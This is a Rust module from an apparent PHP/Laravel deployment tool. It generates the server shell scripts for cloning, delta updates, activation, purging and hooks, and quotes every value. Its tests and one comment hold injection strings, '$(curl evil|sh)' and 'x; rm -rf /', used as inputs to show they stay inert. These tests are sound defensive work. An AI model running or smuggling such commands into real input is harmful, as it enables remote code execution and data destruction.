//! The shell scripts a deployment runs on a server. Every value in them is either validated
//! text from this module or passed through `quote`: nothing from a request or a commit is
//! pasted in as code.

use crate::ssh::quote;

/// Where a release goes on one server.
#[derive(Debug, Clone)]
pub struct Layout {
    /// The server's deployment path (holds `current`, `releases`, `storage`, `.env`).
    pub base: String,
    /// The release directory's name, `YmdHis`.
    pub time: String,
}

impl Layout {
    pub fn releases(&self) -> String {
        format!("{}/releases", self.base)
    }

    pub fn release(&self) -> String {
        format!("{}/releases/{}", self.base, self.time)
    }

    pub fn current(&self) -> String {
        format!("{}/current", self.base)
    }
}

/// A linked folder: `release/{from}` → `{base}/{to}` (both validated relative paths).
#[derive(Debug, Clone)]
pub struct Link {
    pub from: String,
    pub to: String,
}

/// How a release's files arrive on standard input.
#[derive(Debug, Clone, PartialEq)]
pub enum Shipment {
    /// The whole tree, as a tar archive, unpacked straight into the release: the server
    /// keeps no source copy (deltas are off for it).
    Plain,
    /// The whole tree, as a tar archive, which also becomes the server's source copy.
    Full,
    /// What changed since `base`, the commit the server's source copy holds: first `deleted`
    /// bytes of NUL-separated paths to remove, then (unless `shipped` is 0) a gzipped tar
    /// archive of the `shipped` paths that were added or changed (of `changed` paths in all).
    Delta {
        base: String,
        deleted: usize,
        changed: usize,
        shipped: usize,
        /// The bytes on standard input, checked before anything is applied.
        total: u64,
    },
}

/// The exit status of a delta clone whose server no longer holds the base it was built on:
/// the full archive goes to that server instead.
pub const BASE_MISSING: u32 = 75;

/// The server's own copy of the last tree it received, never touched by hooks: deltas apply
/// to it, and each release starts as a copy of it.
fn source(base: &str) -> String {
    format!("{base}/.slipway/source")
}

/// The commit `source` holds; absent while it changes.
fn source_commit(base: &str) -> String {
    format!("{base}/.slipway/source.commit")
}

/// `copy FROM TO`: a copy that shares nothing writable with its original: reflinks (copy on
/// write) where the file system has them, a plain copy elsewhere. Whether it has them is
/// tried once on a file beside the copy: `--reflink=auto` would try (and fail) file by file,
/// which costs a third more on a tree of small files.
const COPY: &str = "copy() {\n\
  if [ -z \"${reflink+set}\" ]; then\n\
  \x20 reflink=; probe=\"$2.reflink\"\n\
  \x20 if : > \"$probe\" && cp --reflink=always \"$probe\" \"$probe.copy\" 2>/dev/null; then reflink=--reflink=always; fi\n\
  \x20 rm -f \"$probe\" \"$probe.copy\"\n\
  fi\n\
  cp -a $reflink \"$1\" \"$2\"\n\
}\n";

/// Where the spare copy of the source goes: made in the background after each deployment, it
/// becomes the next release directory at once, so that copying the whole tree is off the
/// next deployment's path.
fn spare(base: &str) -> String {
    format!("{base}/.slipway/spare")
}

/// The commit and generation of the source the spare was copied from.
fn spare_commit(base: &str) -> String {
    format!("{base}/.slipway/spare.commit")
}

/// Held while the source and the spare change hands (`flock`, where the server has it).
fn lock(base: &str) -> String {
    format!("{base}/.slipway/lock")
}

/// Clone New Release: brings the server's source copy to `sha` with what arrives on standard
/// input (the whole tree, or a delta), makes the new release directory from it (the spare,
/// when it is a copy of the source as it was, with the same delta; else a copy of the
/// source), records the commit and links the shared files and folders.
///
/// `source.commit` holds the commit and the release that made it (its generation): a spare
/// copied while a clone changed the source never matches it.
pub fn clone(
    layout: &Layout,
    sha: &str,
    shipment: &Shipment,
    laravel: bool,
    links: &[Link],
) -> String {
    let base = quote(&layout.base);
    let release = quote(&layout.release());
    let source = quote(&source(&layout.base));
    let mark = quote(&source_commit(&layout.base));
    let spare = quote(&spare(&layout.base));
    let spare_mark = quote(&spare_commit(&layout.base));
    let stamp = quote(&format!("{sha} {}", layout.time));
    let mut script = format!(
        "set -eu\n\
         {COPY}\
         mkdir -p {base}/releases {base}/.slipway\n\
         rm -rf {release}\n"
    );
    if *shipment != Shipment::Plain {
        script.push_str(&format!(
            "spare=\n\
             if command -v flock >/dev/null 2>&1; then exec 9>{lock}; flock 9; spare=1; fi\n\
             rm -rf {base}/.slipway/spare.new.* {base}/.slipway/delta-* 2>/dev/null || true\n\
             old=\"$(cat {mark} 2>/dev/null || true)\"\n",
            lock = quote(&lock(&layout.base)),
        ));
    }
    match shipment {
        Shipment::Plain => script.push_str(&format!(
            "echo \"Unpacking the whole tree of \"{short}\n\
             rm -f {mark} {spare_mark}\n\
             mkdir {release}\n\
             tar -x -f - -C {release}\n\
             {forget}",
            short = quote(sha.get(..7).unwrap_or(sha)),
            forget = in_background(
                &layout.base,
                &format!("rm -rf {source} {spare} {base}/.slipway/spare.*")
            ),
        )),
        Shipment::Full => script.push_str(&format!(
            "echo \"Unpacking the whole tree of \"{short}\n\
             rm -f {mark} {spare_mark}\n\
             rm -rf {source}\n\
             mkdir {source}\n\
             tar -x -f - -C {source}\n\
             printf '%s\\n' {stamp} > {mark}\n\
             copy {source} {release}\n",
            short = quote(sha.get(..7).unwrap_or(sha)),
        )),
        Shipment::Delta {
            base: from,
            deleted,
            changed,
            shipped,
            total,
        } => {
            let delta = quote(&format!("{}/.slipway/delta-{}", layout.base, layout.time));
            script.push_str(&format!(
                "if [ ! -d {source} ] || [ \"${{old%% *}}\" != {from} ]; then\n\
                 \x20 echo \"this server's copy of the source is not at \"{short}\": it gets the whole tree\" >&2\n\
                 \x20 exit {BASE_MISSING}\n\
                 fi\n\
                 if [ {shipped} -gt 0 ] && ! command -v gzip >/dev/null 2>&1; then\n\
                 \x20 echo \"this server has no gzip: it gets the whole tree\" >&2\n\
                 \x20 exit {BASE_MISSING}\n\
                 fi\n\
                 echo \"Applying the changes since \"{short}\": {changed} paths changed, {shipped} shipped\"\n\
                 cat > {delta}\n\
                 if [ \"$(wc -c < {delta})\" -ne {total} ]; then echo \"the changes arrived cut short\" >&2; rm -f {delta}; exit 1; fi\n\
                 rm -f {mark}\n\
                 apply() {{\n",
                from = quote(from),
                short = quote(from.get(..7).unwrap_or(from)),
            ));
            // The delta is the removed paths, then the archive. Every changed path is removed
            // first, so that a file never turns into a directory (or back) over an old one.
            if *deleted > 0 {
                script.push_str(&format!(
                    "  head -c {deleted} {delta} | (cd \"$1\" && xargs -0 -r rm -rf --)\n\
                     \x20 find \"$1\" -mindepth 1 -depth -type d -empty -delete\n"
                ));
            }
            if *shipped > 0 {
                script.push_str(&format!(
                    "  tail -c +{} {delta} | tar -x -z -f - -C \"$1\"\n",
                    deleted + 1
                ));
            }
            script.push_str(&format!(
                "  :\n\
                 }}\n\
                 apply {source}\n\
                 printf '%s\\n' {stamp} > {mark}\n\
                 if [ -n \"$spare\" ] && [ -d {spare} ] && [ \"$(cat {spare_mark} 2>/dev/null || true)\" = \"$old\" ]; then\n\
                 \x20 echo \"Starting from the copy made after the last deployment\"\n\
                 \x20 rm -f {spare_mark}\n\
                 \x20 mv {spare} {release}\n\
                 \x20 apply {release}\n\
                 else\n\
                 \x20 copy {source} {release}\n\
                 fi\n\
                 rm -f {delta}\n"
            ));
        }
    }
    script.push_str(&format!(
        "rm -rf {release}/REVISION {release}/.env\n\
         printf '%s\\n' {sha} > {release}/REVISION\n\
         ln -s {env} {release}/.env\n\
         inside() {{ case \"$(realpath -m \"$1\")\" in \"$(realpath {release})\"|\"$(realpath {release})\"/*) return 0;; esac; \
         echo \"refusing $1: a link in the commit leads outside the release\" >&2; return 1; }}\n",
        sha = quote(sha),
        env = quote(&format!("{}/.env", layout.base)),
    ));
    if laravel {
        let storage = quote(&format!("{}/storage", layout.base));
        script.push_str(&format!(
            "if [ ! -d {storage} ]; then\n\
             \x20 if [ -d {release}/storage ]; then cp -a {release}/storage {storage}; \
             else mkdir -p {storage}; fi\n\
             fi\n\
             mkdir -p {storage}/app/public {storage}/framework/cache {storage}/framework/sessions \
             {storage}/framework/views {storage}/logs\n\
             rm -rf {release}/storage\n\
             ln -s {storage} {release}/storage\n"
        ));
    }
    for link in links {
        let target = quote(&format!("{}/{}", layout.base, link.to));
        let source = quote(&format!("{}/{}", layout.release(), link.from));
        // A committed symlink on the way to `from` must not lead the rm -rf out of the release.
        script.push_str(&format!(
            "mkdir -p {target}\n\
             inside \"$(dirname {source})\"\n\
             rm -rf {source}\n\
             mkdir -p \"$(dirname {source})\"\n\
             inside \"$(dirname {source})\"\n\
             ln -s {target} {source}\n"
        ));
    }
    script
}

/// Install Composer Dependencies, in the new release. With `reuse` (the live release, whose
/// `composer.json` and `composer.lock` are the same), the release starts from a copy of its
/// `vendor/`, so that Composer has nothing to download or unpack.
pub fn composer(
    layout: &Layout,
    composer_path: &str,
    dev: bool,
    quiet: bool,
    reuse: Option<&str>,
) -> String {
    let release = quote(&layout.release());
    let mut command = format!("set -eu\n{COPY}");
    if let Some(live) = reuse.filter(|live| is_release_name(live)) {
        let vendor = quote(&format!("{}/releases/{live}/vendor", layout.base));
        command.push_str(&format!(
            "if [ -d {vendor} ] && [ ! -e {release}/vendor ]; then\n\
             \x20 echo \"composer.json and composer.lock are unchanged: starting from release {live}'s vendor/\"\n\
             \x20 copy {vendor} {release}/vendor\n\
             fi\n"
        ));
    }
    command.push_str(&format!(
        "cd {release}\n{} install --no-interaction --prefer-dist --optimize-autoloader",
        quote(composer_path)
    ));
    if !dev {
        command.push_str(" --no-dev");
    }
    if quiet {
        command.push_str(" --quiet");
    }
    command.push('\n');
    command
}

/// The start of Activate's first line, which says where `current` pointed before (nothing
/// when there was no `current`): Slipway switches back there if any server fails.
pub const LIVE_BEFORE: &str = "slipway-live-before:";

/// Activate New Release: says where `current` points, then a link under a temporary name
/// renamed over `current` (rename(2) is atomic, so there is never a moment without
/// `current`), then a PHP-FPM reload if asked.
pub fn activate(layout: &Layout, reload_fpm: Option<&str>) -> String {
    let mut script = format!(
        "printf '{LIVE_BEFORE}%s\\n' \"$(readlink {} || true)\"\n",
        quote(&layout.current())
    );
    script.push_str(&switch(layout, &layout.release()));
    if let Some(service) = reload_fpm {
        let service = quote(service);
        script.push_str(&format!(
            "( sudo -n systemctl reload {service} 2>/dev/null || sudo -n service {service} reload )\n"
        ));
    }
    script
}

/// Points `current` at `target` atomically; refuses a target that is not there (a link to a
/// missing directory would take the site down).
pub fn switch(layout: &Layout, target: &str) -> String {
    let temporary = quote(&format!("{}/.current-{}", layout.base, layout.time));
    format!(
        "set -eu\n\
         if [ ! -d {target} ]; then echo \"the release \"{target}\" is not on this server\" >&2; exit 1; fi\n\
         ln -sfn {target} {temporary}\n\
         mv -T {temporary} {current}\n",
        target = quote(target),
        current = quote(&layout.current()),
    )
}

/// The PHP-FPM service of a PHP version slug: `php83` → `php8.3-fpm`.
pub fn fpm_service(php_version: &str) -> Option<String> {
    let digits = php_version.strip_prefix("php")?;
    let (major, minor) = digits.split_at_checked(1)?;
    (major.chars().all(|c| c.is_ascii_digit()) && minor.chars().all(|c| c.is_ascii_digit()))
        .then(|| format!("php{major}.{minor}-fpm"))
}

/// Purge Old Releases: removes every release directory but those in `keep` and the live one,
/// and then, in the background once the deployment is over, makes the spare copy of the
/// source for the next one (see `clone`). The removals are moved aside at once and deleted in
/// the background too: a release of many small files takes a while to delete.
/// Release names are digits only (anything else in `keep` is left out), so the listing is
/// safe to iterate and the names safe to paste.
pub fn purge(layout: &Layout, keep: &[String], spare: bool) -> String {
    let keep: Vec<&str> = keep
        .iter()
        .map(String::as_str)
        .filter(|name| is_release_name(name))
        .collect();
    let slipway = format!("{}/.slipway", layout.base);
    let trash = quote(&format!("{slipway}/trash"));
    let log = quote(&format!("{slipway}/background.log"));
    format!(
        "set -eu\n\
         mkdir -p {trash}\n\
         if [ -n \"$(ls -A {trash})\" ]; then echo \"Releases purged before could not all be deleted: see \"{log}; fi\n\
         cd {releases}\n\
         live=\"$(basename \"$(readlink {current} || true)\")\"\n\
         ls -1 | grep -E '^[0-9]+$' | while read -r old; do\n\
         \x20 case \" {keep} \" in *\" $old \"*) continue;; esac\n\
         \x20 if [ \"$old\" != \"$live\" ]; then mv -- \"$old\" {trash}/\"$old.$$\"; fi\n\
         done\n\
         {background}",
        releases = quote(&layout.releases()),
        current = quote(&layout.current()),
        keep = keep.join(" "),
        background = in_background(
            &layout.base,
            &format!(
                "rm -rf {trash}/*\n{}",
                if spare {
                    build_spare(&layout.base)
                } else {
                    String::new()
                }
            )
        ),
    )
}

/// Runs `script` detached from the deployment's session: it outlives the command, and a
/// cancel or a timeout of the step does not stop it. What it says goes to
/// `.slipway/background.log`.
fn in_background(base: &str, script: &str) -> String {
    format!(
        "nohup setsid sh -c {} >>{} 2>&1 </dev/null &\n",
        quote(script),
        quote(&format!("{base}/.slipway/background.log"))
    )
}

/// Copies the source to a new spare; it replaces the old one only if no clone changed the
/// source meanwhile (the source's stamp is the same before and after the copy).
fn build_spare(base: &str) -> String {
    let source = quote(&source(base));
    let mark = quote(&source_commit(base));
    let spare = quote(&spare(base));
    let spare_mark = quote(&spare_commit(base));
    format!(
        "command -v flock >/dev/null 2>&1 || exit 0\n\
         stamp=\"$(cat {mark} 2>/dev/null)\" || exit 0\n\
         [ -n \"$stamp\" ] || exit 0\n\
         {COPY}\
         new=\"$(mktemp -d {template})\" || exit 0\n\
         rmdir \"$new\"\n\
         copy {source} \"$new\" || {{ rm -rf \"$new\"; exit 0; }}\n\
         exec 9>{lock}\n\
         flock 9\n\
         old=\n\
         if [ \"$(cat {mark} 2>/dev/null)\" = \"$stamp\" ] && [ -d \"$new\" ]; then\n\
         \x20 rm -f {spare_mark}\n\
         \x20 if [ -d {spare} ]; then old=\"$(mktemp -d {old_template})\" && mv {spare} \"$old\"/spare; fi\n\
         \x20 mv \"$new\" {spare}\n\
         \x20 printf '%s\\n' \"$stamp\" > {spare_mark}\n\
         fi\n\
         exec 9>&-\n\
         rm -rf \"$new\" ${{old:+\"$old\"}}\n",
        template = quote(&format!("{base}/.slipway/spare.new.XXXXXX")),
        old_template = quote(&format!("{base}/.slipway/spare.old.XXXXXX")),
        lock = quote(&lock(base)),
    )
}

/// A release directory's name: `YmdHis`, digits only.
pub fn is_release_name(name: &str) -> bool {
    !name.is_empty() && name.len() <= 20 && name.bytes().all(|b| b.is_ascii_digit())
}

/// After an interrupted deployment or rollback: points `current` back at `live` (the release
/// recorded as live there), or, with none recorded, removes a `current` that points at the
/// interrupted deployment's own release.
pub fn restore(layout: &Layout, live: Option<&str>) -> String {
    let current = quote(&layout.current());
    match live {
        Some(live) => format!(
            "if [ \"$(readlink {current} || true)\" != {target} ] && [ -d {target} ]; then \
             ln -sfn {target} {temporary} && mv -T {temporary} {current}; fi\n",
            target = quote(&format!("{}/{}", layout.releases(), live)),
            temporary = quote(&format!("{}/.current-{}", layout.base, layout.time)),
        ),
        None => format!(
            "if [ \"$(readlink {current} || true)\" = {release} ]; then rm -f {current}; fi\n",
            release = quote(&layout.release()),
        ),
    }
}

/// Removes the new release unless it is live (after a failure or a cancel).
pub fn remove_release(layout: &Layout) -> String {
    format!(
        "if [ \"$(readlink {current} || true)\" != {release} ]; then rm -rf {release}; fi\n",
        current = quote(&layout.current()),
        release = quote(&layout.release()),
    )
}

/// Refresh Server Connection: can the deployment path be created and written, and which
/// tools are there.
pub fn check(base: &str) -> String {
    format!(
        "set -e\n\
         mkdir -p {base}/releases\n\
         probe={base}/.slipway-probe-$$\n\
         : > \"$probe\" && rm -f \"$probe\"\n\
         for tool in tar php composer; do command -v \"$tool\" >/dev/null 2>&1 && printf 'tool:%s\\n' \"$tool\"; done\n\
         exit 0\n",
        base = quote(base)
    )
}

/// Writes the `.env` arriving on standard input as `{base}/.env`: a temporary file, then a
/// rename, readable by its owner only.
pub fn write_env(base: &str) -> String {
    format!(
        "set -eu\n\
         umask 077\n\
         mkdir -p {base_q}\n\
         tmp=\"$(mktemp {template})\"\n\
         trap 'rm -f \"$tmp\"' EXIT\n\
         cat > \"$tmp\"\n\
         chmod 600 \"$tmp\"\n\
         mv -f \"$tmp\" {env}\n",
        base_q = quote(base),
        template = quote(&format!("{base}/.env.slipway-XXXXXX")),
        env = quote(&format!("{base}/.env"))
    )
}

/// A hook's script with each known `{{ var }}` turned into a reference to a shell variable
/// that a preamble sets to the value, single-quoted. A commit message like `$(curl evil|sh)`
/// is data, never code.
pub fn hook(script: &str, values: &[(&str, &str)]) -> String {
    let mut preamble = String::new();
    for (name, value) in values {
        preamble.push_str(&format!(
            "SLIPWAY_{}={}\n",
            name.to_ascii_uppercase(),
            quote(value)
        ));
    }
    let mut body = String::with_capacity(script.len());
    let mut rest = script;
    while let Some(start) = rest.find("{{") {
        body.push_str(&rest[..start]);
        let after = &rest[start + 2..];
        let replaced = after.find("}}").and_then(|end| {
            let name = after[..end].trim();
            values
                .iter()
                .any(|(known, _)| *known == name)
                .then(|| (format!("${{SLIPWAY_{}}}", name.to_ascii_uppercase()), end))
        });
        match replaced {
            Some((reference, end)) => {
                body.push_str(&reference);
                rest = &after[end + 2..];
            }
            None => {
                body.push_str("{{");
                rest = after;
            }
        }
    }
    body.push_str(rest);
    format!("{preamble}{body}\n")
}

/// Where a supervised process's group id is kept on the server: in the home of the user it
/// runs as (not a shared /tmp where another user could plant a file), named after the node so
/// that two Slipway installations deploying to one server never share a file. A shell word:
/// `$HOME` is expanded remotely; the rest is letters, digits and dashes.
pub fn pidfile(node: &str, deployment: i64, process: i64) -> String {
    let node: String = node
        .chars()
        .filter(|c| c.is_ascii_alphanumeric() || *c == '-')
        .collect();
    format!("\"$HOME\"/.slipway/{node}-{deployment}-{process}.pid")
}

/// Runs `script` in a session of its own whose id is written to `pidfile`, so that a cancel
/// or a timeout can stop the whole process group (`setsid -w` keeps the exit status).
pub fn supervised(script: &str, pidfile: &str) -> String {
    let body = format!(
        "mkdir -p \"$HOME\"/.slipway\necho $$ > {pidfile}\ntrap \"rm -f {pidfile}\" EXIT\n{script}"
    );
    format!("setsid -w bash -c {}", quote(&body))
}

/// Stops what `supervised` started: TERM to the group, KILL if it lingers. A command sent
/// just before the cancel may not have written its pidfile yet, so it is given a moment; a
/// pidfile that does not hold a number is ignored.
pub fn kill(pidfile: &str) -> String {
    // In a subshell of its own: its early exit must not end a script it is part of.
    format!(
        "( pid={pidfile}; \
         for _ in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do [ -f \"$pid\" ] && break; sleep 0.1; done; \
         if [ -f \"$pid\" ]; then group=\"$(cat \"$pid\")\"; \
         case \"$group\" in ''|*[!0-9]*) rm -f \"$pid\"; exit 0;; esac; \
         kill -TERM -- \"-$group\" 2>/dev/null || true; \
         for _ in 1 2 3 4 5 6 7 8 9 10; do kill -0 -- \"-$group\" 2>/dev/null || break; sleep 0.2; done; \
         kill -KILL -- \"-$group\" 2>/dev/null || true; rm -f \"$pid\"; fi )\n"
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hook_variables_become_quoted_shell_variables() {
        let rendered = hook(
            "echo \"{{ message }}\" {{sha}} {{ unknown }} {{release}}",
            &[
                ("message", "$(curl evil|sh) it's"),
                ("sha", "abc"),
                ("release", "/srv/r/1"),
            ],
        );
        assert!(rendered.starts_with("SLIPWAY_MESSAGE='$(curl evil|sh) it'\\''s'\n"));
        assert!(rendered.contains(
            "echo \"${SLIPWAY_MESSAGE}\" ${SLIPWAY_SHA} {{ unknown }} ${SLIPWAY_RELEASE}"
        ));
    }

    #[test]
    fn hook_scripts_without_placeholders_are_kept() {
        assert_eq!(hook("npm run prod", &[]), "npm run prod\n");
        assert_eq!(
            hook("echo {{ open", &[("open", "x")]),
            "SLIPWAY_OPEN='x'\necho {{ open\n"
        );
    }

    #[test]
    fn fpm_services() {
        assert_eq!(fpm_service("php83").as_deref(), Some("php8.3-fpm"));
        assert_eq!(fpm_service("php74").as_deref(), Some("php7.4-fpm"));
        assert_eq!(fpm_service("node"), None);
    }

    #[test]
    fn purge_keeps_only_release_names() {
        let layout = Layout {
            base: "/srv/app".into(),
            time: "20261122101530".into(),
        };
        let script = purge(
            &layout,
            &["20261122101530".into(), "x; rm -rf /".into(), "2026".into()],
            true,
        );
        assert!(script.contains("case \" 20261122101530 2026 \" in"));
        assert!(
            !script.contains("x; rm"),
            "a name that is not digits is left out"
        );
    }

    #[test]
    fn paths_are_quoted() {
        let layout = Layout {
            base: "/srv/it's".into(),
            time: "20261122101530".into(),
        };
        let script = activate(&layout, None);
        assert!(script.contains("'/srv/it'\\''s/releases/20261122101530'"));
        assert!(script.contains("mv -T"));
    }
}
